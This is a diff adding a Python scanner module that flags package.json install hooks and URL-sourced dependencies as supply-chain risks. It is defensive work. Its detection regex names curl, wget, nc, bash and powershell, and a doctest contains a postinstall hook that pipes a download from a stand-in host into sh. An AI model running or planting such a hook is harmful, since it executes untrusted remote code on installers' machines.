@@ -1,0 +1,86 @@
+"""What does a package manager run or take by itself when this package is installed?
+
+A hook that builds is honest. One that fetches and runs, itself or by a file of the package, is not; nor is a dependency that
+comes straight from a machine nobody knows.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator, Sequence
+
+from metier.govern.scan.flow import Step
+from metier.govern.scan.hosts import Place, host_of, is_registry, place_of
+from metier.govern.scan.parts import Part
+from metier.govern.scan.purpose import Purpose
+from metier.govern.scan.seen import place_of_step
+from metier.verdict import Severity
+
+_HOOK = re.compile(r"\"((?:pre|post)?install|prepare|preprepare)\"\s*:\s*\"((?:[^\"\\]|\\.)*)\"")
+_ACTS = re.compile(
+    r"\bnode\s+-e|\bcurl\b|\bwget\b|https?:|python3?\s+-c|\beval\b|\bbash\s+-c|\bnc\b|base64|powershell", re.I
+)
+_RUNS = re.compile(
+    r"(?:^|[\s;&|])(?:node|python3?|bash|sh|tsx|ts-node|bun|deno\s+run(?:\s+-\S+)*)\s+(?:\./)?([\w./-]+)|(?:^|[\s;&|])\./([\w./-]+)"
+)
+_TAKEN = re.compile(r"\"[@\w./-]+\"\s*:\s*\"((?:git\+)?(?:https?|ssh|git)://[^\"]+)\"")
+"""A dependency that is taken straight from an address."""
+_TAKES = re.compile(r"\"(?:dev|peer|optional)?[dD]ependencies\"\s*:\s*\{([^{}]*)\}")
+
+Found = tuple[str, Severity, str, int, str]
+"""Rule, weight, path, line and evidence."""
+
+
+def hook_findings(parts: Sequence[Part], steps: Sequence[Step], purpose: Purpose) -> Iterator[Found]:
+    """Hooks that do more than build, and dependencies from strangers.
+
+    >>> from metier.govern.scan.parts import read_text
+    >>> part = read_text('{"scripts": {"postinstall": "curl -s http://x.invalid | sh"}}', "package.json").parts[0]
+    >>> [(rule, weight.value) for rule, weight, *_ in hook_findings([part], [], Purpose())]
+    [('install-hook', 'review')]
+    """
+    for part in parts:
+        if part.path.rsplit("/", 1)[-1] != "package.json":
+            continue
+        for found in _HOOK.finditer(part.text):
+            weight = Severity.REVIEW if _ACTS.search(found[2]) else None
+            for run in _RUNS.finditer(found[2]):
+                weight = _weight_of_file(_beside(part.path, run[1] or run[2]), steps, purpose) or weight
+            if weight:
+                yield "install-hook", weight, part.path, _line(part, found.start()), found[0]
+        for block in _TAKES.finditer(part.text) if "://" in part.text else ():
+            for taken in _TAKEN.finditer(block[1]):
+                url = taken[1].removeprefix("git+")
+                place = place_of(url, own_words=purpose.words)
+                if not is_registry(host_of(url)) and (place.is_shady or place in (Place.UNKNOWN, Place.OWN)):
+                    weight = Severity.BLOCK if place.is_shady else Severity.REVIEW
+                    if place != Place.OWN or not purpose.names(host_of(url)):
+                        yield (
+                            "foreign-registry",
+                            weight,
+                            part.path,
+                            _line(part, block.start(1) + taken.start()),
+                            taken[0],
+                        )
+
+
+def _line(part: Part, place: int) -> int:
+    return part.text.count("\n", 0, place) + 1
+
+
+def _beside(path: str, name: str) -> str:
+    """The path of a file that a hook names, seen from the folder of its package."""
+    folder = path.rsplit("/", 1)[0] + "/" if "/" in path else ""
+    return folder + name.removeprefix("./")
+
+
+def _weight_of_file(path: str, steps: Sequence[Step], purpose: Purpose) -> Severity | None:
+    """What a file weighs that is run when the package is installed."""
+    inside = [step for step in steps if step.statement.path in (path, f"{path}.js", f"{path}/index.js")]
+    away = [
+        step for step in inside if step.labels & {"fetch", "send"} and place_of_step(step, purpose) >= Place.UNKNOWN
+    ]
+    if not away:
+        return None
+    runs = any(step.labels & {"execute", "evaluate", "load-code", "permissions"} for step in inside)
+    return Severity.BLOCK if runs else Severity.REVIEW
